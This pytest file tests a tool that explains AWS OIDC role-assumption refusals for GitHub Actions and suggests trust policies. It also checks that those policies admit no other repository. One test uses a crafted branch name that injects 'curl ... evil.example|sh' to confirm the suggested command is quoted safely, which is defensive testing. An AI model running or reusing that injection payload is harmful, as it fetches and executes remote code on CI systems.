"""Each cause in truth: a run that AWS refuses for it says so first, and what it says to do lets the same run in."""

from __future__ import annotations

import html
import json
import re
import shlex
from dataclasses import dataclass, field, replace
from typing import Any

import pytest
from tests.conftest import Step

from py_aws_oidc.explain.causes import CAUSES, NO_ASSUME, NO_TAGS
from sandbox.faults import Fault
from sandbox.in_process import Run, models_read_once
from sandbox.issuer import new_key
from sandbox.job import Job
from sandbox.world import World

ACCOUNT = "123456789012"
PROVIDER = f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com"
KEY = "token.actions.githubusercontent.com"
EXCHANGE = "sts:AssumeRoleWithWebIdentity"
MAIN = "repo:octo-org/octo-repo:ref:refs/heads/main"
IDS = "repo:octo-org@65/octo-repo@74:ref:refs/heads/main"
REUSED = "octo-org/workflows/.github/workflows/deploy.yml@refs/tags/v2"


def policy(sub: str | list[str] = MAIN, operator: str = "StringEquals", **changed: Any) -> dict[str, Any]:
    """A trust policy for this subject; `changed` goes over the statement."""
    condition = {"StringEquals": {f"{KEY}:aud": "sts.amazonaws.com"}}
    condition.setdefault(operator, {})[f"{KEY}:sub"] = sub
    statement = {
        "Effect": "Allow",
        "Principal": {"Federated": PROVIDER},
        "Action": EXCHANGE,
        "Condition": condition,
    }
    return {"Version": "2012-10-17", "Statement": [statement | changed]}


def with_condition(key: str, value: str) -> dict[str, Any]:
    document = policy("repo:octo-org/*", "StringLike")
    document["Statement"][0]["Condition"]["StringEquals"][f"{KEY}:{key}"] = value
    return document


def without_pull_requests() -> dict[str, Any]:
    document = policy("repo:octo-org/octo-repo:*", "StringLike")
    document["Statement"][0]["Condition"]["StringNotEquals"] = {
        f"{KEY}:sub": "repo:octo-org/octo-repo:pull_request"
    }
    return document


def with_deny() -> dict[str, Any]:
    document = policy()
    deny = {
        "Effect": "Deny",
        "Principal": "*",
        "Action": EXCHANGE,
        "Condition": {"StringLike": {f"{KEY}:sub": "*:ref:*"}},
    }
    document["Statement"].append(deny)
    return document


@dataclass(frozen=True)
class Refusal:
    """A run that the role's trust policy does not let in; in some, only the policy in the repository tells why."""

    cause: str
    trust: dict[str, Any]
    job: Job = field(default_factory=Job)
    has_policy_file: bool = False
    inputs: dict[str, str] = field(default_factory=dict)
    claims: dict[str, object] = field(default_factory=dict)

    def __str__(self) -> str:
        operators = ", ".join(self.trust["Statement"][0]["Condition"])
        sub = self.claims.get("sub", self.job.sub)
        return f"{self.cause}{' by its policy' if self.has_policy_file else ''} {sub} {operators}"


ENVIRONMENT = Job(environment="prod")
PULL_REQUEST = Job(event_name="pull_request", ref="refs/pull/7/merge", base_ref="main", head_ref="feature")
TAG = Job(ref="refs/tags/v1")
CAPITALS = Job(owner="Octo-Org")
QUEUE = Job(event_name="merge_group", ref="refs/heads/gh-readonly-queue/main/pr-7-0123456789abcdef")
REUSABLE_ON_FEATURE = Job(ref="refs/heads/feature", job_workflow_ref=REUSED)
REUSABLE = Job(job_workflow_ref=REUSED)
RELEASE = Job(immutable_sub=True, ref="refs/heads/release")
CUSTOMISED = {"sub": "repository_owner:octo-org:repository_visibility:private"}
CUSTOMISED_BY_FILE = {
    "sub": f"{MAIN}:job_workflow_ref:octo-org/octo-repo/.github/workflows/deploy.yml@refs/heads/main"
}
OTHER_AUDIENCE = {"audience": "https://aws.example"}

BY_THE_RUN = [
    Refusal("customised-subject", policy(), claims=CUSTOMISED),
    Refusal("customised-subject", policy(), ENVIRONMENT, claims=CUSTOMISED_BY_FILE),
    Refusal("immutable-subject", policy(), Job(immutable_sub=True)),
    Refusal("environment", policy(), ENVIRONMENT),
    Refusal("environment", policy(IDS), Job(environment="prod:eu", immutable_sub=False)),
    Refusal("pull-request", policy(), PULL_REQUEST),
    Refusal("tag", policy(), TAG),
    Refusal("letters", policy(), CAPITALS),
    Refusal("merge-queue", policy(), QUEUE),
    Refusal("policy-audience", policy(), inputs=OTHER_AUDIENCE),
    Refusal("condition", policy(), Job(ref="refs/heads/feature/JIRA-12")),
    Refusal("condition", policy(), REUSABLE_ON_FEATURE),
]
BY_THE_POLICY = [
    Refusal("denied", with_deny()),
    Refusal("customised-subject", policy(), claims=CUSTOMISED),
    Refusal("immutable-subject", policy(), Job(immutable_sub=True)),
    Refusal("immutable-subject", policy("repo:octo-org/octo-repo:*", "StringLike"), RELEASE),
    Refusal("environment", policy(), ENVIRONMENT),
    Refusal("immutable-subject", policy(), Job(immutable_sub=True, environment="prod")),
    Refusal("merge-queue", policy("repo:octo-org/octo-repo:ref:refs/heads/ma?n", "StringLike"), QUEUE),
    Refusal("pull-request", policy("repo:octo-org/octo-repo:ref:refs/heads/*", "StringLike"), PULL_REQUEST),
    Refusal("tag", policy("repo:octo-org/octo-repo:environment:prod"), TAG),
    Refusal("letters", policy("repo:Octo-Org/octo-repo:ref:refs/heads/main")),
    Refusal("letters", policy("repo:octo-org/octo-repo:environment:Prod"), ENVIRONMENT),
    Refusal("reusable-workflow", with_condition("job_workflow_ref", REUSED.replace("v2", "v1")), REUSABLE),
    Refusal("called-workflow", with_condition("job_workflow_ref", REUSED)),
    Refusal("policy-audience", policy(), inputs=OTHER_AUDIENCE),
    Refusal("other-provider", policy(Principal={"Federated": f"{PROVIDER}/octo-org"})),
    Refusal("action", policy(Action="sts:AssumeRole")),
    Refusal("wildcard", policy("repo:octo-org/octo-repo:*")),
    Refusal("wildcard", policy("repo:octo-org/*"), ENVIRONMENT),
    Refusal("condition-key", with_condition("repository_owner", "octo-org")),
    Refusal("condition", policy(["repo:octo-org/other:pull_request", MAIN]), Job(ref="refs/heads/feature")),
    Refusal("condition", with_condition("repository_id", "75")),
    Refusal("condition", without_pull_requests(), PULL_REQUEST),
    Refusal("names-subject", policy(IDS)),
]
REFUSALS = BY_THE_RUN + [replace(each, has_policy_file=True) for each in BY_THE_POLICY]


@pytest.fixture(scope="module", autouse=True)
def _quick():
    with models_read_once():
        yield


def by_name(name: str):
    return next(cause for cause in CAUSES if cause.name == name)


def first_of_summary(run: Run) -> str:
    """The title of the first cause that the summary has."""
    found = re.search(r"^1\. \*\*(.*)\*\* \(", run.summary, re.MULTILINE)
    assert found, run.summary
    return found[1]


def told_first(run: Run, name: str) -> bool:
    """Whether error and summary name this cause before any other."""
    beginning = re.split(r"\$\w+", by_name(name).title)[0]
    told = re.search(r"(?:The cause:|The likely cause in this run:|One possible cause:) (.*)", run.error)
    return bool(told) and told[1].startswith(beginning) and first_of_summary(run).startswith(beginning)


def pasted(run: Run) -> list[str]:
    """The policies that the summary has ready to paste."""
    return re.findall(r"```json\n(.*?)\n```", run.summary, re.DOTALL)


def let_in_by(world: World, document: str, name: str = "deploy") -> None:
    world.admin("iam").update_assume_role_policy(RoleName=name, PolicyDocument=document)


def list_audiences(world: World, *audiences: str) -> None:
    world.admin("iam").delete_open_id_connect_provider(OpenIDConnectProviderArn=PROVIDER)
    world.register_provider(audiences=audiences)


def run_of(step, refusal: Refusal) -> Run:
    inputs = dict(refusal.inputs)
    if refusal.has_policy_file:
        (step.folder / "trust.json").write_text(json.dumps(refusal.trust))
        inputs["trust_policy_file"] = "trust.json"
    if refusal.claims:
        step.world.faults.script("idtoken", Fault(claims=refusal.claims))
    return step(refusal.job, environ={"GITHUB_WORKSPACE": str(step.folder)}, **inputs)


@pytest.mark.parametrize("refusal", REFUSALS, ids=str)
def test_a_refusal_names_its_cause_first_and_what_it_has_to_paste_lets_the_same_run_in(step, refusal):
    list_audiences(step.world, "sts.amazonaws.com", *refusal.inputs.values())
    let_in_by(step.world, json.dumps(refusal.trust))

    refused = run_of(step, refusal)

    assert refused.status == 1
    assert told_first(refused, refusal.cause), refused.error
    assert not refused.leaks
    documents = pasted(refused)
    assert documents
    for document in documents:
        let_in_by(step.world, document)
        assert run_of(step, refusal).status == 0, document


def test_what_is_pasted_for_one_form_of_the_subject_has_the_other_too(step):
    refused = step(Job(immutable_sub=True))
    _, both, by_id = pasted(refused)

    for document in (both, by_id):
        let_in_by(step.world, document)
        assert step(Job(immutable_sub=True)).status == 0
        assert step(Job(immutable_sub=False)).status == 0
        assert step(Job(immutable_sub=True, ref="refs/heads/other")).status == 1


def test_what_is_pasted_lets_nobody_else_in(step):
    refused = step(ENVIRONMENT)

    for document in pasted(refused):
        let_in_by(step.world, document)
        for other in (Job(), Job(environment="test"), Job(owner="evil", environment="prod", repository_id="75")):
            assert step(other).status == 1, (document, other.sub)


def test_a_policy_that_allows_the_run_is_not_the_one_that_the_role_has(step):
    let_in_by(step.world, json.dumps(policy("repo:octo-org/other:pull_request")))

    refused = run_of(step, Refusal("no-role", policy(), has_policy_file=True))

    assert told_first(refused, "no-role")
    assert "trust.json allows this token" in refused.error


def test_a_role_that_is_not_there_is_a_cause_without_the_policy_too(step):
    refused = step(role_to_assume=f"arn:aws:iam::{ACCOUNT}:role/nobody")

    assert by_name("no-role").title in refused.summary
    step.world.create_role("nobody", trust=json.loads(pasted(refused)[0]))
    assert step(role_to_assume=f"arn:aws:iam::{ACCOUNT}:role/nobody").status == 0


def test_the_name_of_a_branch_adds_nothing_to_a_command_that_the_error_tells_to_run(step):
    branch = "x;curl${IFS}-s${IFS}evil.example|sh;#"
    refusal = Refusal(
        "condition-key",
        with_condition("environment", "prod"),
        Job(ref=f"refs/heads/{branch}"),
        has_policy_file=True,
    )

    refused = run_of(step, refusal)

    assert told_first(refused, "condition-key")
    sub = f"--sub=repo:octo-org/octo-repo:ref:refs/heads/{branch}"
    expected = [*shlex.split("python3 -m py_aws_oidc trust check POLICY"), sub, "--aud=sts.amazonaws.com"]
    on_page = map(html.unescape, re.findall("<code>(python3.*?)</code>", refused.summary))
    for command in (*re.findall("`(python3.*?)`", refused.error), *on_page):
        assert shlex.split(command) == expected
    assert f"'{sub.partition('=')[2]}'" in refused.error
    assert "<code>python3" in refused.summary


def test_a_policy_that_cannot_be_judged_is_told_with_the_reason(step):
    document = policy("repo:octo-org/${aws:username}:pull_request", "StringLike")

    refused = run_of(step, Refusal("-", document, ENVIRONMENT, has_policy_file=True))

    assert "trust.json cannot be compared with the token here: it has a policy variable" in refused.error
    assert told_first(refused, "environment")


def test_the_name_of_the_session_is_the_one_that_was_asked_for(step):
    document = with_condition("ref", "refs/heads/other")
    document["Statement"][0]["Condition"]["StringNotLike"] = {"sts:RoleSessionName": "ci-*"}
    refusal = Refusal("-", document, has_policy_file=True, inputs={"role_session_name": "ci-7"})

    let_in_by(step.world, json.dumps(document))
    error = run_of(step, refusal).error

    assert "StringNotLike sts:RoleSessionName wants 'ci-*', and the request says 'ci-7'" in error


def test_what_is_wrong_with_the_policy_itself_is_told_with_it(step):
    refusal = Refusal("-", policy(f"{MAIN} "), has_policy_file=True)
    let_in_by(step.world, json.dumps(refusal.trust))

    assert "- Statement[0].Condition.StringEquals" in run_of(step, refusal).error


def test_a_token_of_somebody_else_is_explained_by_its_own_audience(step):
    list_audiences(step.world, "sts.amazonaws.com", "https://aws.example")
    token = step.folder / "token"
    token.write_text(step.world.issuer.mint(Job(), "https://aws.example"))

    refused = step(web_identity_token_file=str(token))

    assert told_first(refused, "policy-audience")
    let_in_by(step.world, pasted(refused)[0])
    assert step(web_identity_token_file=str(token)).status == 0


@pytest.mark.parametrize(
    "sub",
    [
        "environment:prod",
        "ref:refs/heads/main",
        "workflow:deploy",
        "runner_environment:github-hosted",
        "event_name:push",
        "repository_visibility:private",
        "job_workflow_ref:octo-org/octo-repo/.github/workflows/deploy.yml@refs/heads/main",
    ],
)
def test_what_is_pasted_for_a_customised_subject_lets_in_no_other_repository_with_the_same(step, sub):
    mallory = Job(owner="mallory", owner_id="666", name="evil", repository_id="999")

    def run_as(job: Job) -> Run:
        step.world.faults.script("idtoken", Fault(claims={"sub": sub}))
        return step(job)

    documents = pasted(run_as(Job()))

    assert documents
    for document in documents:
        let_in_by(step.world, document)
        assert run_as(Job()).status == 0
        refused = run_as(mallory)
        assert (refused.status, refused.env) == (1, {})


def test_what_is_pasted_second_for_a_merge_queue_is_for_its_next_branch_too(step):
    first, second, *_ = pasted(step(QUEUE))

    for document, status in ((first, 1), (second, 0)):
        let_in_by(step.world, document)
        assert step(QUEUE).status == 0
        assert step(replace(QUEUE, ref="refs/heads/gh-readonly-queue/main/pr-8-fedcba9876543210")).status == status
        assert step(replace(QUEUE, ref="refs/heads/gh-readonly-queue/other/pr-8-fedcba9876543210")).status == 1


# --- the provider


@pytest.fixture
def enterprise(tmp_path):
    """A job on a GitHub Enterprise Server, in an account that knows github.com only."""
    with World(iss="https://github.example/_services/token") as world:
        provider = world.register_provider(issuer=f"https://{KEY}")
        yield Step(world, world.create_role("deploy", trust=policy()), provider, tmp_path)


def test_an_account_without_a_provider_is_told_which_one_it_needs(step):
    step.world.admin("iam").delete_open_id_connect_provider(OpenIDConnectProviderArn=PROVIDER)

    refused = step()

    assert told_first(refused, "no-provider")
    assert f"```\n{PROVIDER}\n```" in refused.summary
    assert "--url=https://token.actions.githubusercontent.com --client-id-list=sts.amazonaws.com" in refused.error
    step.world.register_provider()
    assert step().status == 0


def test_a_role_in_another_account_is_told_of_its_account(step):
    elsewhere = step.world.create_role("deploy", trust=policy(), account="210987654321")

    refused = step(role_to_assume=elsewhere)

    assert told_first(refused, "no-provider")
    assert "check that 210987654321 in role-to-assume is the right account" in refused.error
    assert step().status == 0


def test_an_enterprise_with_a_path_of_its_own_is_told_its_own_provider(step):
    issuer = f"https://{KEY}/octo-enterprise"
    step.world.faults.script("idtoken", Fault(claims={"iss": issuer}))

    assert told_first(step(), "enterprise-issuer")


def test_an_enterprise_server_is_told_its_own_provider(enterprise):
    refused = enterprise()

    assert told_first(refused, "enterprise-issuer")
    arn = f"arn:aws:iam::{ACCOUNT}:oidc-provider/github.example/_services/token"
    assert f"```\n{arn}\n```" in refused.summary
    enterprise.world.register_provider()
    assert told_first(enterprise(), "other-provider")
    let_in_by(enterprise.world, pasted(refused)[0])
    assert enterprise().status == 0


def test_an_audience_that_the_provider_does_not_list_is_told(step):
    refused = step(audience="https://aws.example")

    assert told_first(refused, "provider-audience")
    list_audiences(step.world, "https://aws.example")
    let_in_by(step.world, pasted(refused)[0])
    assert step(audience="https://aws.example").status == 0


def test_a_token_that_somebody_else_signed_is_told(step):
    step.world.faults.script("idtoken", Fault(key=new_key()))

    refused = step(disable_retry="true")

    assert told_first(refused, "issuer-keys")
    assert step().status == 0


# --- what AWS says of everything else

SAID_BY_AWS = {
    "expired-token": ("ExpiredTokenException", "Token expired: current date/time must be before the expiration"),
    "packed-policy": ("PackedPolicyTooLarge", "Packed size of session tags consumes 113% of allotted space."),
    "session-policy": ("MalformedPolicyDocument", "Syntax errors in policy."),
    "thumbprint": (
        "InvalidIdentityToken",
        "OpenIDConnect provider's HTTPS certificate doesn't match configured thumbprint",
    ),
    "issuer-unreachable": ("IDPCommunicationError", "Could not reach the identity provider in time."),
    "rejected-claim": ("IDPRejectedClaim", "The token is no longer good."),
    "value": ("ValidationError", "1 validation error detected"),
    "region": ("RegionDisabledException", "STS is not activated in this region for account:123456789012."),
}


@pytest.mark.parametrize("name", SAID_BY_AWS)
def test_what_aws_says_itself_is_put_into_words(step, name):
    code, message = SAID_BY_AWS[name]
    step.world.faults.script("AssumeRoleWithWebIdentity", always=Fault(status=400, code=code, message=message))

    refused = step()

    assert told_first(refused, name)
    step.world.faults.clear()
    assert step().status == 0


def test_how_much_too_large_a_policy_is_stands_in_the_error(step):
    code, message = SAID_BY_AWS["packed-policy"]
    step.world.faults.script("AssumeRoleWithWebIdentity", Fault(status=400, code=code, message=message))

    assert "how much of the limit they use: 113%" in step.refused()


def test_a_session_longer_than_the_role_allows_is_told(step):
    assert told_first(step(role_duration_seconds="7200"), "duration")
    assert step(role_duration_seconds="3600").status == 0


# --- credentials that assume a role


def keys_of_a_user(world: World) -> dict[str, str]:
    iam = world.admin("iam")
    iam.create_user(UserName="ci")
    key = iam.create_access_key(UserName="ci")["AccessKey"]
    return {"aws_access_key_id": key["AccessKeyId"], "aws_secret_access_key": key["SecretAccessKey"]}


def for_user(*actions: str) -> dict[str, Any]:
    allow = {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{ACCOUNT}:user/ci"}, "Action": list(actions)}
    return {"Version": "2012-10-17", "Statement": [allow]}


@pytest.mark.parametrize(
    ("name", "actions", "symptom"),
    [("tag-session", ["sts:AssumeRole"], NO_TAGS), ("assume-role", ["sts:SetSourceIdentity"], NO_ASSUME)],
)
def test_keys_that_may_not_assume_the_role_are_told_what_would_let_them(step, name, actions, symptom):
    keys = keys_of_a_user(step.world)
    let_in_by(step.world, json.dumps(for_user(*actions)))

    refused = step(**keys)

    assert told_first(refused, name)
    assert by_name(name).symptom is symptom
    let_in_by(step.world, pasted(refused)[0])
    assert step(**keys).status == 0


def test_what_is_pasted_for_keys_asks_for_the_external_id_and_for_no_more_than_the_run_needs(step):
    keys = keys_of_a_user(step.world) | {"role_external_id": "octo", "role_skip_session_tagging": "true"}

    (statement,) = json.loads(pasted(step(**keys))[0])["Statement"]

    assert statement["Action"] == "sts:AssumeRole"
    assert statement["Condition"] == {"StringEquals": {"sts:ExternalId": "YOUR-EXTERNAL-ID"}}


def test_a_role_that_may_not_assume_another_is_named_as_the_role_and_not_as_its_session(step):
    step.world.create_role("second", trust=for_user("sts:AssumeRole"))
    own = step().env
    chained = {"role_to_assume": f"arn:aws:iam::{ACCOUNT}:role/second", "role_chaining": "true"}

    refused = step(environ=own, **chained)

    document = pasted(refused)[0]
    assert json.loads(document)["Statement"][0]["Principal"] == {"AWS": f"arn:aws:iam::{ACCOUNT}:role/deploy"}
    let_in_by(step.world, document, "second")
    assert told_first(step(environ=own, role_duration_seconds="7200", **chained), "chained-duration")
    assert step(environ=own, **chained).status == 0


def test_keys_that_aws_does_not_know_are_told(step):
    keys = keys_of_a_user(step.world)

    assert told_first(step(**keys | {"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE"}), "unknown-key")
    assert told_first(
        step(**keys | {"aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}), "signature"
    )
    assert step(role_to_assume="", **keys).status == 0


@pytest.mark.parametrize("code", ["ExpiredToken", "ExpiredTokenException"])
def test_credentials_whose_time_is_over_are_told(step, code):
    own = step().env
    step.world.faults.script("AssumeRole", Fault(status=403, code=code, message="The token is expired"))

    assert told_first(step(environ=own, role_chaining="true"), "expired-keys")


def test_every_cause_has_a_run_here():
    """A cause that is added needs one too."""
    shown = {refusal.cause for refusal in REFUSALS} | set(SAID_BY_AWS)
    shown |= {"no-provider", "enterprise-issuer", "provider-audience", "issuer-keys", "no-role"}
    shown |= {
        "tag-session",
        "assume-role",
        "unknown-key",
        "signature",
        "expired-keys",
        "duration",
        "chained-duration",
    }
    assert {cause.name for cause in CAUSES} == shown
